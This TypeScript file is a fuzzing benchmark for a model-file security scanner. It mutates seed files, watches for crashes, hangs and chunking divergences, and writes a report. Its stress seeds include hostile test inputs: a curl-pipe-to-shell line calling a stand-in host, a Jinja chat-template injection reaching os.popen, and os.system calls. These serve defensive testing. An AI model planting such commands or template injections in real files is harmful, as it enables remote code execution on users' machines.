// Time-boxed fuzzing of every scanner through the file scanner (the review's entry point), with the chunking
// differential. Inputs are seeds (the chunk-ownership corpus, the real-library files under __tests__/fixtures/real/
// and fixtures/loaders/, and inputs from the differential generator scripts/differential/generate.py) and mutations of
// them; each runs in a worker thread under a watchdog. Checks, per input:
//   crash       the scanner (or the text analyzers behind TextCapture) threw, or the worker died;
//   hang        no answer within --hang-ms (default 10 s): the worker is terminated and the input saved;
//   malformed   the outcome breaks the ScanOutcome contract (no format, a bad severity, incomplete with nothing
//               blocking);
//   divergence  one push, small chunks from one reused buffer poisoned after every push, and a random split through
//               that buffer give different outcomes or capture different text.
//   ./run bench fuzz --minutes 10 --seed S [--workers 1] [--hang-ms 10000] [--python-seeds 300] [--max-bytes 4194304]
//   ./run bench fuzz --replay DIR      re-run saved inputs (DIR/*.bin with their .json) once each and print what they do
// Writes bench/results/fuzz.md and, for each failure class, a minimized input under bench/results/fuzz/.
import { spawnSync } from 'node:child_process';
import { mkdirSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { cpus, loadavg, totalmem } from 'node:os';
import { basename, join } from 'node:path';
import { isMainThread, parentPort, Worker } from 'node:worker_threads';
import { runContentChecks } from '../src/checks/content/index.js';
import { TextCapture } from '../src/review/capture.js';
import { createFileScanner } from '../src/scan/file-scanner.js';
import type { ScanOutcome } from '../src/scan/types.js';
import { CHUNK_FIXTURES } from '../__tests__/scan/support/chunk-corpus.js';

const TAIL = 65558;
const SEVERITIES = new Set(['critical', 'high', 'medium', 'low', 'info']);

// ───────────────────────────── shared: the PRNG and the messages ─────────────────────────────

/** mulberry32: deterministic, so an input names its seed and index and replays. */
function rng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

interface Job { id: number; path: string; bytes: Uint8Array; splitSeed: number; analyzers: boolean }
type Kind = 'crash' | 'malformed' | 'divergence';
interface Answer { id: number; ms: number; problem?: { kind: Kind; detail: string } }

// ───────────────────────────── worker: scan one input three ways ─────────────────────────────

interface Run { key: string; outcome: ScanOutcome; texts: string[] }

const stable = (v: unknown): string => JSON.stringify(v, (_k, x: unknown) => (typeof x === 'bigint' ? `${x}n` : x));

/** Scans `bytes` as the review does (size and tail known), pushing the pieces `sizes` gives. */
function scanOnce(job: Job, sizes: (() => number) | undefined, capture: TextCapture | undefined): Run {
  const { bytes, path } = job;
  const s = createFileScanner({ path, size: bytes.length, tail: bytes.slice(Math.max(0, bytes.length - TAIL)) },
    capture ? { textAnalyzers: [capture.analyzer] } : {});
  if (!sizes) {
    s.push(bytes.slice());
  } else {
    const buf = new Uint8Array(1 << 16);
    for (let i = 0; i < bytes.length;) {
      const n = Math.min(bytes.length - i, buf.length, Math.max(1, sizes()));
      buf.set(bytes.subarray(i, i + n));
      s.push(buf.subarray(0, n));
      buf.fill(0xa5); // the download reads its next bytes into the same memory
      i += n;
    }
  }
  const outcome = s.end();
  const texts = capture ? capture.paths().sort().map((p) => `${p}\u0000${capture.text(p) ?? ''}`) : [];
  return { key: stable({ f: outcome.formats, c: outcome.complete, x: outcome.findings, d: outcome.details }), outcome, texts };
}

function malformed(o: ScanOutcome): string | undefined {
  if (!Array.isArray(o.formats) || o.formats.length === 0 || o.formats.some((f) => typeof f !== 'string')) return `formats ${stable(o.formats)}`;
  if (typeof o.complete !== 'boolean') return 'complete is not a boolean';
  for (const f of o.findings) {
    if (!SEVERITIES.has(f.severity) || typeof f.check !== 'string' || typeof f.message !== 'string' || f.message.length === 0) return `finding ${stable(f).slice(0, 300)}`;
  }
  if (!o.complete && !o.findings.some((f) => f.severity === 'critical' || f.severity === 'high')) return 'incomplete with no blocking finding';
  return undefined;
}

/** The first place two runs differ, short enough for a report line. */
function firstDifference(a: string, b: string): string {
  let i = 0;
  while (i < a.length && a[i] === b[i]) i++;
  const from = Math.max(0, i - 80);
  return `…${a.slice(from, i + 120)}… vs …${b.slice(from, i + 120)}…`;
}

function examine(job: Job): Answer['problem'] {
  const r = rng(job.splitSeed);
  const small = [1, 2, 3, 7][Math.floor(r() * 4)] as number;
  // Small chunks over a large input cost a push per byte through every interpretation; keep each run bounded.
  const step = Math.max(small, Math.ceil(job.bytes.length / 50_000));
  const capA = job.analyzers ? new TextCapture() : undefined;
  const one = scanOnce(job, undefined, capA);
  const bad = malformed(one.outcome);
  if (bad) return { kind: 'malformed', detail: bad };
  const runs: [string, Run][] = [
    [`chunks of ${step} from a reused buffer`, scanOnce(job, () => step, job.analyzers ? new TextCapture() : undefined)],
    ['a random split from a reused buffer', scanOnce(job, () => (r() < 0.5 ? 1 + Math.floor(r() * 16) : 1 + Math.floor(r() * 70_000)), job.analyzers ? new TextCapture() : undefined)]
  ];
  for (const [how, run] of runs) {
    if (run.key !== one.key) return { kind: 'divergence', detail: `one push vs ${how}: ${firstDifference(one.key, run.key)}` };
    const ta = stable(one.texts);
    const tb = stable(run.texts);
    if (ta !== tb) return { kind: 'divergence', detail: `captured text, one push vs ${how}: ${firstDifference(ta, tb)}` };
  }
  // The analyzers behind TextCapture (Python, shell, notebooks, chat templates, JSON configs) run on what was kept.
  if (capA) {
    const files = [{ path: job.path, size: job.bytes.length, formats: one.outcome.formats, complete: one.outcome.complete }];
    runContentChecks({ files, text: (p) => capA.text(p), captured: () => capA.paths(), skipped: () => capA.skipped() });
  }
  return undefined;
}

function workerMain(): void {
  parentPort?.on('message', (job: Job) => {
    const t0 = performance.now();
    let problem: Answer['problem'];
    try {
      problem = examine(job);
    } catch (err) {
      problem = { kind: 'crash', detail: err instanceof Error ? (err.stack ?? err.message).split('\n').slice(0, 8).join('\n') : String(err) };
    }
    const answer: Answer = { id: job.id, ms: performance.now() - t0, ...(problem ? { problem } : {}) };
    parentPort?.postMessage(answer);
  });
}

// ───────────────────────────── main: seeds, mutation, watchdog, minimization, report ─────────────────────────────

function arg(name: string, def?: string): string | undefined {
  const i = process.argv.indexOf(`--${name}`);
  return i >= 0 ? process.argv[i + 1] : def;
}

interface Seed { name: string; path: string; family: string; bytes: Uint8Array; analyzers: boolean }

function walk(dir: string): string[] {
  return readdirSync(dir).flatMap((n) => {
    const p = join(dir, n);
    return statSync(p).isDirectory() ? walk(p) : n.endsWith('.md') || n === 'manifest.json' || n === 'mismatches.json' ? [] : [p];
  });
}

/** The family an input is counted under: the first format the file scanner recognises in the seed. */
function familyOf(path: string, bytes: Uint8Array): string {
  const s = createFileScanner({ path, size: bytes.length, tail: bytes.slice(Math.max(0, bytes.length - TAIL)) });
  s.push(bytes);
  return s.end().formats[0] ?? 'none';
}

const TEXT_NAME = /\.(py|pyw|sh|ipynb|json|jinja|j2|txt|md|cfg|toml|pth|bat|ps1)$/i;

function pythonSeeds(count: number, seed: number): { name: string; family: string; bytes: Uint8Array }[] {
  if (count <= 0) return [];
  const code = `import sys, json, base64\nsys.path.insert(0, 'scripts/differential')\nimport generate\nfor i in range(${count}):\n    n, f, d = generate.generate(${seed}, i)\n    print(json.dumps([n, f, base64.b64encode(d).decode()]))\n`;
  const r = spawnSync('python3', ['-c', code], { encoding: 'utf8', maxBuffer: 1 << 30 });
  if (r.status !== 0) {
    console.error(`fuzz: the differential generator failed (${r.stderr.slice(0, 300)}); continuing without its inputs`);
    return [];
  }
  return r.stdout.trim().split('\n').filter(Boolean).map((l) => {
    const [name, family, b64] = JSON.parse(l) as [string, string, string];
    return { name, family, bytes: new Uint8Array(Buffer.from(b64, 'base64')) };
  });
}

/** Extra seeds built to stress the text analyzers and header parsers (the sizes the fault campaign found slow). */
function stressSeeds(): { name: string; path: string; bytes: Uint8Array }[] {
  const enc = (s: string): Uint8Array => new TextEncoder().encode(s);
  return [
    { name: 'python, long module', path: 'modeling_x.py', bytes: enc(`import os\n${'def f%(x):\n    return [i * 2 for i in range(x)]\n'.repeat(2000).replace(/%/g, () => String(Math.floor(Math.random() * 1e6)))}os.system('id')\n`) },
    { name: 'chat template, long', path: 'tokenizer_config.json', bytes: enc(JSON.stringify({ chat_template: `${"{% for m in messages %}{{ m['content'] }}{% endfor %}".repeat(400)}{{ cycler.__init__.__globals__.os.popen('id').read() }}` })) },
    { name: 'shell script', path: 'install.sh', bytes: enc(`#!/bin/sh\n${'echo hello\n'.repeat(500)}curl https://x.example/i.sh | sh\n`) },
    { name: 'notebook', path: 'demo.ipynb', bytes: enc(JSON.stringify({ cells: [{ cell_type: 'code', source: ['import os\n', "os.system('id')\n"] }], metadata: {}, nbformat: 4, nbformat_minor: 5 })) },
    { name: 'pickle, dotted GLOBAL', path: 'model.pkl', bytes: enc(`\x80\x02c${'a.'.repeat(300)}b\nc\n.`) },
    { name: 'npy, long header', path: 'w.npy', bytes: new Uint8Array([0x93, ...enc('NUMPY'), 1, 0, 0xf0, 0x0f, ...enc(`{'descr': '<f4', 'fortran_order': False, 'shape': (${'1, '.repeat(1300)}), }`.padEnd(0xff0 - 1, ' ')), 0x0a]) }
  ];
}

function buildSeeds(seed: number, pySeeds: number): Seed[] {
  const seeds: Seed[] = [];
  for (const [name, path, bytes, o] of CHUNK_FIXTURES) seeds.push({ name, path, family: '', bytes, analyzers: o?.analyzers ?? TEXT_NAME.test(path) });
  for (const root of ['__tests__/fixtures/real', '__tests__/fixtures/loaders']) {
    for (const p of walk(root)) {
      const bytes = new Uint8Array(readFileSync(p));
      if (bytes.length > 4 * 1024 * 1024) continue;
      seeds.push({ name: p, path: basename(p), family: '', bytes, analyzers: TEXT_NAME.test(p) });
    }
  }
  for (const s of pythonSeeds(pySeeds, seed)) seeds.push({ name: `generate.py ${s.family}`, path: s.name, family: '', bytes: s.bytes, analyzers: TEXT_NAME.test(s.name) });
  for (const s of stressSeeds()) seeds.push({ ...s, family: '', analyzers: true });
  for (const s of seeds) s.family = familyOf(s.path, s.bytes);
  return seeds;
}

const INTERESTING = [0, 1, 0x7f, 0x80, 0xff];
const INTERESTING32 = [0, 1, 0x7fffffff, 0x80000000, 0xffffffff, 0xfffffffe, 0x10000, 65535];

/** One to four mutations: bit flips, interesting values, integer fields, inserts, deletes, duplications, splices. */
function mutate(src: Uint8Array, r: () => number, other: Uint8Array, maxBytes: number): Uint8Array {
  let b = src;
  const n = 1 + Math.floor(r() * 4);
  for (let k = 0; k < n; k++) {
    const len = b.length;
    // Bias toward the head and the tail: headers, lengths and zip/tar directories live there.
    const pos = (): number => {
      if (len === 0) return 0;
      const x = r();
      if (x < 0.45) return Math.floor(r() * Math.min(len, 4096));
      if (x < 0.6) return Math.max(0, len - 1 - Math.floor(r() * Math.min(len, 4096)));
      return Math.floor(r() * len);
    };
    const op = Math.floor(r() * 10);
    if (op <= 1 && len > 0) { b = b.slice(); const at = pos(); b[at]! ^= 1 << Math.floor(r() * 8); }
    else if (op === 2 && len > 0) { b = b.slice(); b[pos()] = INTERESTING[Math.floor(r() * INTERESTING.length)] as number; }
    else if (op === 3 && len >= 4) {
      b = b.slice();
      const at = Math.min(pos(), len - 4);
      new DataView(b.buffer, b.byteOffset).setUint32(at, INTERESTING32[Math.floor(r() * INTERESTING32.length)] as number, r() < 0.8);
    } else if (op === 4) { const at = pos(); b = b.subarray(0, at); }
    else if (op === 5 && len > 0) {
      const at = pos();
      const cut = 1 + Math.floor(r() * Math.min(256, len - at));
      b = concat(b.subarray(0, at), b.subarray(at + cut));
    } else if (op === 6) {
      const at = pos();
      const ins = new Uint8Array(1 + Math.floor(r() * 32));
      for (let i = 0; i < ins.length; i++) ins[i] = Math.floor(r() * 256);
      b = concat(b.subarray(0, at), ins, b.subarray(at));
    } else if (op === 7 && len > 0) {
      // Repeat a slice many times: the shape of algorithmic blow-ups (long names, deep nesting, big headers).
      const at = pos();
      const piece = b.subarray(at, at + 1 + Math.floor(r() * 16));
      const times = 1 + Math.floor(r() * 4000);
      const rep = new Uint8Array(Math.min(piece.length * times, maxBytes));
      for (let i = 0; i < rep.length; i += piece.length) rep.set(piece.subarray(0, rep.length - i), i);
      b = concat(b.subarray(0, at), rep, b.subarray(at));
    } else if (op === 8 && other.length > 0) {
      const at = pos();
      const from = Math.floor(r() * other.length);
      b = concat(b.subarray(0, at), other.subarray(from, from + 1 + Math.floor(r() * 4096)), r() < 0.5 ? b.subarray(at) : new Uint8Array(0));
    } else if (len > 0) {
      const at = pos();
      const piece = b.subarray(at, at + 1 + Math.floor(r() * 64));
      b = concat(b.subarray(0, at), piece, b.subarray(at));
    }
  }
  return b.length > maxBytes ? b.subarray(0, maxBytes) : b;
}

function concat(...parts: Uint8Array[]): Uint8Array {
  const out = new Uint8Array(parts.reduce((s, p) => s + p.length, 0));
  let o = 0;
  for (const p of parts) { out.set(p, o); o += p.length; }
  return out;
}

/** A worker and its watchdog: run(job) answers, or reports a hang after hangMs and replaces the worker. */
class Runner {
  private worker!: Worker;
  private pending: { resolve: (a: Answer | 'hang') => void; timer: NodeJS.Timeout } | undefined;
  restarts = 0;

  constructor(private readonly hangMs: number) { this.start(); }

  private start(): void {
    const w = new Worker(new URL(import.meta.url), { stdout: false, resourceLimits: { maxOldGenerationSizeMb: 1024 } });
    this.worker = w;
    // Only the current worker answers: a terminated one's exit must not settle its successor's job.
    w.on('message', (a: Answer) => { if (w === this.worker) this.settle(a); });
    w.on('error', (err) => { if (w === this.worker) this.settle({ id: -1, ms: 0, problem: { kind: 'crash', detail: `worker died: ${err.message}` } }); });
    w.on('exit', () => { if (w === this.worker) this.settle({ id: -1, ms: 0, problem: { kind: 'crash', detail: 'worker exited' } }); });
  }

  private settle(a: Answer | 'hang'): void {
    const p = this.pending;
    if (!p) return;
    this.pending = undefined;
    clearTimeout(p.timer);
    p.resolve(a);
  }

  run(job: Job): Promise<Answer | 'hang'> {
    return new Promise((resolve) => {
      const timer = setTimeout(() => {
        this.settle('hang');
        void this.restart();
      }, this.hangMs);
      this.pending = { resolve, timer };
      this.worker.postMessage(job);
    });
  }

  /** After a hang or a death: a fresh worker (a dead one cannot be reused). */
  async restart(): Promise<void> {
    this.restarts++;
    const old = this.worker;
    this.start();
    await old.terminate();
  }

  async close(): Promise<void> { await this.worker.terminate(); }
}

interface Failure { kind: Kind | 'hang'; detail: string; seed: string; family: string; path: string; bytes: Uint8Array; original: number; job: number }

/** Shrinks an input while it fails the same way (same kind; a crash keeps its first stack line): chunk removal, ddmin-style. */
async function minimize(runner: Runner, f: Failure, budgetMs: number, hangMs: number): Promise<Uint8Array> {
  const t0 = performance.now();
  const sig = (a: Answer | 'hang'): string => (a === 'hang' ? 'hang' : a.problem ? `${a.problem.kind}:${a.problem.kind === 'crash' ? a.problem.detail.split('\n')[0] : ''}` : 'ok');
  const want = f.kind === 'crash' ? `crash:${f.detail.split('\n')[0]}` : `${f.kind}:`;
  let best = f.bytes;
  let id = 1e9;
  const still = async (b: Uint8Array): Promise<boolean> => {
    const a = await runner.run({ id: id++, path: f.path, bytes: b, splitSeed: f.job, analyzers: TEXT_NAME.test(f.path) });
    return sig(a) === want;
  };
  if (f.kind === 'hang' && hangMs * 4 > budgetMs) return best; // each try may take the whole bound
  let parts = 2;
  while (best.length > 1 && performance.now() - t0 < budgetMs) {
    const size = Math.ceil(best.length / parts);
    let shrunk = false;
    for (let at = 0; at < best.length && performance.now() - t0 < budgetMs; at += size) {
      const cand = concat(best.subarray(0, at), best.subarray(at + size));
      if (cand.length < best.length && await still(cand)) { best = cand; shrunk = true; break; }
    }
    if (!shrunk) {
      if (size <= 1) break;
      parts = Math.min(best.length, parts * 2);
    } else parts = Math.max(2, parts - 1);
  }
  return best;
}

function slug(s: string): string {
  return s.replace(/[^A-Za-z0-9.+-]+/g, '_').replace(/^_+|_+$/g, '').slice(0, 80);
}

async function replay(dir: string, hangMs: number): Promise<void> {
  const runner = new Runner(hangMs);
  let bad = 0;
  try {
    for (const f of readdirSync(dir).filter((x) => x.endsWith('.bin')).sort()) {
      const meta = JSON.parse(readFileSync(join(dir, f.replace(/\.bin$/, '.json')), 'utf8')) as { path: string; job: number };
      const bytes = new Uint8Array(readFileSync(join(dir, f)));
      const a = await runner.run({ id: 0, path: meta.path, bytes, splitSeed: meta.job, analyzers: TEXT_NAME.test(meta.path) });
      const what = a === 'hang' ? 'hang' : a.problem ? `${a.problem.kind}: ${a.problem.detail.split('\n')[0]}` : `ok (${a.ms.toFixed(0)} ms)`;
      if (a === 'hang' || a.problem) bad++;
      console.log(`${f}: ${what}`);
    }
  } finally {
    await runner.close();
  }
  console.log(`${bad} still fail`);
}

async function main(): Promise<void> {
  const hangMs = Number(arg('hang-ms', '10000'));
  const replayDir = arg('replay');
  if (replayDir) return replay(replayDir, hangMs);
  const minutes = Number(arg('minutes', '10'));
  const seed = Number(arg('seed', '1'));
  const workers = Math.max(1, Number(arg('workers', '1')));
  const maxBytes = Number(arg('max-bytes', String(4 * 1024 * 1024)));
  const outDir = arg('out', 'bench/results/fuzz') as string;
  const report = arg('report', 'bench/results/fuzz.md') as string;
  const minimizeMs = Number(arg('minimize-ms', '20000'));
  const r = rng(seed);
  const t0 = performance.now();
  const seeds = buildSeeds(seed, Number(arg('python-seeds', '300')));
  console.log(`fuzz: ${seeds.length} seeds in ${((performance.now() - t0) / 1000).toFixed(1)} s; ${minutes} min, seed ${seed}, ${workers} worker(s), hang bound ${hangMs} ms`);
  const deadline = performance.now() + minutes * 60_000;
  const runners = Array.from({ length: workers }, () => new Runner(hangMs));
  const fam = new Map<string, { inputs: number; ms: number; bytes: number; failures: number }>();
  const kinds = new Map<string, number>(); // failures by kind (only one input per class is kept)
  const classes = new Map<string, Failure>();
  let inputs = 0;
  let bytes = 0;
  let next = 0;
  const load0 = loadavg()[0] ?? 0;

  const loop = async (runner: Runner): Promise<void> => {
    while (performance.now() < deadline) {
      const job = next++;
      const s = seeds[Math.floor(r() * seeds.length)] as Seed;
      // One input in eight is a seed as-is (its chunking differential), the rest are mutations.
      const b = job < seeds.length ? s.bytes : r() < 0.125 ? s.bytes : mutate(s.bytes, r, (seeds[Math.floor(r() * seeds.length)] as Seed).bytes, maxBytes);
      const splitSeed = Math.floor(r() * 2 ** 31);
      const path = r() < 0.9 ? s.path : (seeds[Math.floor(r() * seeds.length)] as Seed).path; // names matter to sniffing
      const a = await runner.run({ id: job, path, bytes: b, splitSeed, analyzers: s.analyzers || TEXT_NAME.test(path) });
      inputs++;
      bytes += b.length;
      const st = fam.get(s.family) ?? { inputs: 0, ms: 0, bytes: 0, failures: 0 };
      st.inputs++;
      st.bytes += b.length;
      st.ms += a === 'hang' ? hangMs : a.ms;
      if (a !== 'hang' && a.problem?.kind === 'crash' && a.id === -1) await runner.restart();
      const problem = a === 'hang' ? { kind: 'hang' as const, detail: `no answer within ${hangMs} ms` } : a.problem;
      if (problem) {
        st.failures++;
        const f: Failure = { ...problem, seed: s.name, family: s.family, path, bytes: b, original: b.length, job: splitSeed };
        kinds.set(f.kind, (kinds.get(f.kind) ?? 0) + 1);
        const cls = `${f.kind}-${s.family}-${f.kind === 'crash' ? f.detail.split('\n')[0] : f.kind === 'divergence' ? (f.detail.match(/"check":"([^"]+)"/)?.[1] ?? 'outcome') : ''}`;
        if (!classes.has(cls)) {
          classes.set(cls, f);
          console.log(`fuzz: new ${f.kind} (${cls}) from ${s.name} as ${path}, ${b.length} bytes: ${(f.detail.split('\n')[0] ?? '').slice(0, 300)}`);
        }
      }
      fam.set(s.family, st);
      if (inputs % 500 === 0) console.log(`fuzz: ${inputs} inputs, ${[...kinds.values()].reduce((x, y) => x + y, 0)} failures, ${((performance.now() - t0) / 1000).toFixed(0)} s`);
    }
  };
  await Promise.all(runners.map(loop));
  const elapsed = (performance.now() - t0) / 1000;
  const peakRss = process.resourceUsage().maxRSS * 1024;

  // Minimize one input per class and save it with what it did.
  rmSync(outDir, { recursive: true, force: true });
  if (classes.size > 0) mkdirSync(outDir, { recursive: true });
  const saved: string[] = [];
  for (const [cls, f] of classes) {
    const small = await minimize(runners[0] as Runner, f, minimizeMs, hangMs);
    const name = slug(cls);
    writeFileSync(join(outDir, `${name}.bin`), small);
    writeFileSync(join(outDir, `${name}.json`), `${JSON.stringify({ class: cls, kind: f.kind, detail: f.detail, seed: f.seed, family: f.family, path: f.path, job: f.job, originalBytes: f.original, minimizedBytes: small.length }, null, 2)}\n`);
    saved.push(`| ${f.kind} | ${cls.replace(/\|/g, '\\|').slice(0, 120)} | ${f.path} | ${f.original} → ${small.length} | \`${name}.bin\` |`);
  }
  await Promise.all(runners.map((x) => x.close()));

  const count = (k: string): number => kinds.get(k) ?? 0;
  const rows = [...fam.entries()].sort((a, b) => b[1].inputs - a[1].inputs)
    .map(([k, v]) => `| ${k} | ${v.inputs} | ${(v.inputs / Math.max(1e-9, v.ms / 1000)).toFixed(1)} | ${(v.bytes / Math.max(1, v.inputs) / 1024).toFixed(1)} | ${v.failures} |`);
  const md = [
    '# Fuzz benchmark',
    '',
    `\`./run bench fuzz --minutes ${minutes} --seed ${seed}${workers > 1 ? ` --workers ${workers}` : ''}\` — ${new Date().toISOString()}, ${cpus().length} CPU(s), ${(totalmem() / 2 ** 30).toFixed(1)} GiB, load average ${load0.toFixed(2)} at start, ${(loadavg()[0] ?? 0).toFixed(2)} at end.`,
    '',
    'Each input is scanned by the file scanner (every interpretation: pickle VM, zip/tar/npz/compression containers, npy, safetensors, GGUF, HDF5/Keras, every format plugin, the text capture and the content analyzers behind it for text names) three ways — one push; small chunks from one reused buffer poisoned after every push; a random split through that buffer — in a worker thread with a watchdog.',
    '',
    `| | |`,
    '|---|---|',
    `| seeds | ${seeds.length} |`,
    `| inputs | ${inputs} (${(bytes / 2 ** 20).toFixed(1)} MiB) in ${elapsed.toFixed(0)} s, ${(inputs / elapsed).toFixed(1)} inputs/s |`,
    `| crashes | ${count('crash')} |`,
    `| hangs (> ${hangMs / 1000} s) | ${count('hang')} |`,
    `| malformed outcomes | ${count('malformed')} |`,
    `| chunking divergences | ${count('divergence')} |`,
    `| peak RSS (process, all workers) | ${(peakRss / 2 ** 20).toFixed(0)} MiB |`,
    `| worker restarts | ${runners.reduce((s, x) => s + x.restarts, 0)} |`,
    '',
    '## Per family (the seed\'s first recognised format)',
    '',
    '| family | inputs | inputs/s (worker time) | mean KiB | failures |',
    '|---|---|---|---|---|',
    ...rows,
    '',
    ...(saved.length ? ['## Saved failures (minimized, under bench/results/fuzz/)', '', '| kind | class | path | bytes | file |', '|---|---|---|---|---|', ...saved, ''] : ['No failures.', ''])
  ].join('\n');
  writeFileSync(report, md);
  console.log(md);
}

if (isMainThread) {
  main().catch((err: unknown) => {
    console.error(err);
    process.exitCode = 1;
  });
} else {
  workerMain();
}
